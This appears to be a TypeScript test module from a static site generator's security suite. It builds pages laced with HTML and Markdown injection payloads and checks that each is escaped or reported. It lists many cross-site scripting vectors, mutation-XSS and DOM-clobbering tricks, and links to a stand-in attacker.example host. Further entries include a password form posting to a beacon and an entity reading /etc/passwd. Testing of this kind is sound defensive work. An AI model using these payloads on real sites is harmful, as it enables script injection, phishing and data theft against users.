import type { Attack, Bait, Proof } from "../support/attack.ts";
import { after, leaveSign, page, pathOf } from "../support/attack.ts";

/** Section 1.4: markup in the text. What is not Markdown is shown as it was written. */
export function htmlAttacks(bait: Bait): readonly Attack[] {
  return [
    ...RAW.map(([slug, by, payload, shows]) => raw(bait, slug, by, payload, shows)),
    ...MARKDOWN.map(([slug, payload]) => markdown(bait, slug, payload)),
    ...HEADINGS.map(([slug, attributes]) => heading(slug, attributes)),
  ];
}

/**
 * Name, by what sign it shows itself without walls, the markup, and the part that must be readable.
 * `SIGN` stands for a script that leaves its sign, `BARE` for one that needs no quotation marks, `BEACON` for the address of a foreign server.
 */
const RAW: readonly (readonly [string, Proof | null, string, string])[] = [
  ["script", "script", "<script>SIGN</script>", "<script>"],
  ["script-upper-case", "script", "<ScRiPt>SIGN</sCrIpT>", "<ScRiPt>"],
  ["script-remote", "request", '<script src="BEACON"></script>', "<script src="],
  ["script-inline", "script", "Words <script>SIGN</script> words", "<script>"],
  ["script-after-comment", "script", "<!--><script>SIGN</script>-->", "<script>"],
  ["script-module", "script", '<script type="module">SIGN</script>', "<script type="],
  ["script-in-svg", "script", "<svg><script>SIGN</script></svg>", "<svg>"],
  [
    "import-map",
    "markup",
    '<script type="importmap">{"imports":{"/pagefind/pagefind.js":"BEACON"}}</script>',
    "importmap",
  ],
  ["image-error", "script", '<img src="x" onerror="SIGN">', "<img src="],
  ["image-unquoted", "script", "<img src=x onerror=BARE>", "<img src="],
  ["image-slashes", "script", '<div><img/src="x"/onerror=BARE></div>', "<img/src="],
  ["image-no-end", "script", '<div><img src="x" onerror="SIGN" <p></div>', "<img src="],
  ["body-load", "script", '<body onload="SIGN">', "<body onload="],
  ["svg-load", "script", '<svg onload="SIGN"></svg>', "<svg onload="],
  ["svg-animate", "script", '<svg><animate onbegin="SIGN" attributeName="x" dur="1s"/></svg>', "<animate"],
  ["svg-link", "markup", '<svg><a xlink:href="javascript:SIGN"><text y="20">go</text></a></svg>', "<svg>"],
  ["svg-use", "markup", '<svg><use href="BEACON#x"/></svg>', "<use"],
  ["details-toggle", "script", '<details open ontoggle="SIGN">x</details>', "<details"],
  ["input-focus", "script", '<input autofocus onfocus="SIGN">', "<input"],
  ["video-error", "script", '<video><source onerror="SIGN"></video>', "<video>"],
  ["audio-error", "script", '<audio src="x" onerror="SIGN"></audio>', "<audio"],
  [
    "animation-end",
    "markup",
    '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="SIGN">x</b>',
    "<style>",
  ],
  ["link-javascript", "markup", '<a href="javascript:SIGN">go</a>', "<a href="],
  ["link-javascript-tab", "markup", '<a href="java\tscript:SIGN">go</a>', "<a href="],
  ["link-javascript-entity", "markup", '<a href="&#106;avascript&colon;SIGN">go</a>', "<a href="],
  ["link-data", "markup", '<a href="data:text/html,<script>SIGN</script>">go</a>', "<a href="],
  ["link-vbscript", "markup", '<a href="vbscript:msgbox(1)">go</a>', "<a href="],
  ["link-ping", "markup", '<a href="https://example.org/" ping="BEACON">go</a>', "ping="],
  ["iframe-source", "request", '<iframe src="BEACON"></iframe>', "<iframe"],
  ["iframe-document", "script", '<iframe srcdoc="<script>SIGN</script>"></iframe>', "<iframe"],
  ["iframe-javascript", "script", '<iframe src="javascript:SIGN"></iframe>', "<iframe"],
  ["object", "request", '<object data="BEACON"></object>', "<object"],
  ["embed", "request", '<embed src="BEACON">', "<embed"],
  ["meta-refresh", "markup", '<meta http-equiv="refresh" content="9;url=BEACON">', "<meta"],
  ["base", "markup", '<base href="BEACON/">', "<base"],
  [
    "form",
    "markup",
    '<form action="BEACON"><input name="password" type="password"><button>Sign in</button></form>',
    "<form",
  ],
  ["form-steals-button", "markup", '<button form="search" formaction="BEACON">x</button>', "<button"],
  ["style", "markup", "<style>main{display:none}</style>", "<style>"],
  ["style-import", "request", '<style>@import "BEACON";</style>', "<style>"],
  ["style-attribute", "markup", '<p style="position:fixed;inset:0;background:#fff">Cover</p>', "<p style="],
  ["stylesheet", "request", '<link rel="stylesheet" href="BEACON">', "<link"],
  ["preload", "request", '<link rel="preload" as="image" href="BEACON">', "<link"],
  ["picture-remote", "request", '<img src="BEACON">', "<img src="],
  ["picture-set-remote", "request", '<img srcset="BEACON 1x">', "<img srcset="],
  [
    "clobber-form",
    "markup",
    '<form id="getElementById"><input name="cookie"></form><img name="body">',
    "<form",
  ],
  [
    "clobber-anchor",
    "markup",
    '<a id="pagefind"></a><a id="pagefind" name="url" href="BEACON"></a>',
    "<a id=",
  ],
  ["unclosed-comment", "markup", "<!-- the rest of the page is gone", "<!--"],
  ["unclosed-script", "markup", "<script>/*", "<script>"],
  ["unclosed-style", "markup", "<style>", "<style>"],
  ["unclosed-textarea", "markup", "<textarea>", "<textarea>"],
  ["unclosed-template", "markup", "<template>", "<template>"],
  ["unclosed-plaintext", "markup", "<plaintext>", "<plaintext>"],
  ["unclosed-title", "markup", "<title>", "<title>"],
  ["unclosed-attribute", "markup", '<div><a href="', '<a href="'],
  [
    "break-out",
    "markup",
    "</div></section></article></main></body></html><h1>A notice of the network</h1>",
    "</main>",
  ],
  [
    "shadow-root",
    "markup",
    '<div><template shadowrootmode="open"><style>:host{position:fixed;inset:0}</style></template></div>',
    "<template",
  ],
  [
    "mutation-noscript",
    "script",
    '<noscript><p title="</noscript><img src=x onerror=SIGN>"></noscript>',
    "<noscript>",
  ],
  [
    "mutation-math",
    "markup",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=SIGN&gt;">',
    "<math>",
  ],
  [
    "mutation-select",
    "markup",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=SIGN>",
    "<math>",
  ],
  ["dialog", "markup", "<dialog open>Your session has ended</dialog>", "<dialog"],
  ["popover", "markup", '<button popovertarget="x">x</button><div popover id="x">x</div>', "<button"],
  [
    "framework-attributes",
    "markup",
    '<div x-data x-init="SIGN" hx-get="BEACON" hx-trigger="load" ng-app data-bind="SIGN">x</div>',
    "<div x-data",
  ],
  [
    "pagefind-attributes",
    "markup",
    '<p data-pagefind-meta="title:Other" data-pagefind-ignore="all" data-pagefind-body>x</p>',
    "<p data-pagefind",
  ],
  [
    "processing-instruction",
    null,
    '<?xml-stylesheet href="BEACON"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
    "<?xml-stylesheet",
  ],
  ["entity-in-quote", "script", "> <img src=x onerror=BARE>", "<img src="],
  ["in-list", "script", "- item <svg onload=BARE>", "<svg onload="],
  ["in-table", "script", "| a |\n| - |\n| <img src=x onerror=BARE> |", "<img src="],
];

function raw(bait: Bait, slug: string, by: Proof | null, payload: string, shows: string): Attack {
  const name = `html/${slug}`;
  const bytes = page(name, {}, filled(bait, name, payload));
  return {
    name,
    section: "1.4",
    tries: `markup in the text: ${payload.slice(0, 60)}`,
    files: [{ path: pathOf(name), bytes }],
    holds: { as: "published", shows: [shows, after(name)] },
    ...(by === null ? {} : { worksOnNaive: { on: "matter", by } as const }),
  };
}

function filled(bait: Bait, name: string, payload: string): string {
  return payload
    .replaceAll("SIGN", leaveSign(name))
    .replaceAll("BARE", "Object.assign(top,{__ran:1})")
    .replaceAll("BEACON", `${bait.beacon}/${name}`);
}

/** Markdown's own ways to an address, an attribute or a picture. The words round them must stay. */
const MARKDOWN: readonly (readonly [string, string])[] = [
  ["markdown-javascript", "[go](javascript:SIGN)"],
  ["markdown-javascript-case", "[go](JaVaScRiPt:SIGN)"],
  ["markdown-javascript-entity", "[go](&#106;avascript:SIGN)"],
  ["markdown-javascript-colon", "[go](javascript&colon;SIGN)"],
  ["markdown-javascript-line", "[go](<java&#10;script:SIGN>)"],
  ["markdown-javascript-control", "[go](<\u0001javascript:SIGN>)"],
  ["markdown-data", "[go](data:text/html;base64,PHNjcmlwdD4=)"],
  ["markdown-data-image", "![x](data:image/svg+xml;base64,PHN2Zz4=)"],
  ["markdown-data-png", "![x](data:image/png;base64,iVBORw0KGgo=)"],
  ["markdown-vbscript", "[go](vbscript:msgbox)"],
  ["markdown-blob", "[go](blob:https://attacker.example/1)"],
  ["markdown-file", "[go](file:///etc/passwd)"],
  ["markdown-ftp", "[go](ftp://attacker.example/x)"],
  ["markdown-own-scheme", "[go](intent://attacker.example#Intent;end)"],
  ["markdown-http", "[go](http://attacker.example/)"],
  ["markdown-protocol-relative", "[go](//attacker.example/x) ![x](//attacker.example/x.png)"],
  ["markdown-backslashes", "[go](\\\\\\\\attacker.example/x) [go](/\\\\attacker.example)"],
  ["markdown-reference", "[go][x]\n\n[x]: javascript:SIGN 'title'"],
  ["markdown-own-mark", "[go](ck-refused:javascript:SIGN) ![x](ck-refused:https://attacker.example/x)"],
  ["markdown-own-words", "[go](commonkit:__proto__) [go](commonkit:../../x) [go](commonkit:constructor#x)"],
  ["markdown-autolink", "<javascript:SIGN> <data:text/html,x> <vbscript:x>"],
  ["markdown-title", `[go](https://example.org/ '" onmouseover="SIGN" x="')`],
  ["markdown-alt", `![" onerror="SIGN" x="](missing.png)`],
  ["markdown-address-quote", `[go](<https://example.org/"onmouseover="SIGN>)`],
  ["markdown-fence-language", '```" onmouseover="SIGN" x="\ncode\n```'],
  ["markdown-fence-class", "```html><script>SIGN</script>\ncode\n```"],
  ["markdown-attributes", "Words.{onclick=SIGN style=color:red .x #ck-main}"],
  ["markdown-span-attributes", "[words]{onclick=SIGN}"],
  ["markdown-picture-remote", "![x](BEACON/picture.png)"],
  ["markdown-picture-https", "![x](https://attacker.example/tracker.gif)"],
  ["markdown-table-style", "| a | b |\n| :-: | --: |\n| 1 | 2 |"],
  ["markdown-unclosed-fence", "Words.\n\n    code\n\n<!-- "],
  ["markdown-footnote", "[^x]\n\n[^x]: <script>SIGN</script>"],
  ["markdown-bidirectional", "The file is called \u202Egnp.exe\u202C and \u2066hidden\u2069."],
  ["markdown-zero", "Null \u0000 and escape \u001B[2J and \uFFFE and lone \u{FFFF}."],
];

function markdown(bait: Bait, slug: string, payload: string): Attack {
  const name = `html/${slug}`;
  return {
    name,
    section: "1.4",
    tries: `Markdown that leads to markup or to a foreign address: ${payload.slice(0, 60)}`,
    files: [{ path: pathOf(name), bytes: page(name, {}, filled(bait, name, payload)) }],
    holds: { as: "published-or-reported", path: pathOf(name), shows: [after(name)] },
  };
}

/** What a heading's braces may not carry. A heading that cannot be read costs its document, by name. */
const HEADINGS: readonly (readonly [string, string])[] = [
  ["heading-attributes", "#one onclick=top.__ran=1"],
  ["heading-quote", '#one"onclick="top.__ran=1'],
  ["heading-markup", "#<script>top.__ran=1</script>"],
  ["heading-own-id", "#ck-main"],
  ["heading-proto", "#__proto__"],
  ["heading-constructor", "#constructor"],
  ["heading-operation", "#one replace"],
  ["heading-class", "#one .ck-hidden style=display:none"],
  ["heading-twice", "#before"],
  ["heading-intro", "#_intro"],
  ["heading-clobber", "#search"],
];

function heading(slug: string, attributes: string): Attack {
  const name = `html/${slug}`;
  return {
    name,
    section: "1.4",
    tries: `a heading with {${attributes}}`,
    files: [{ path: pathOf(name), bytes: page(name, {}, `## Heading {${attributes}}\n\nText.`) }],
    holds: { as: "published-or-reported", path: pathOf(name), shows: [after(name)] },
  };
}
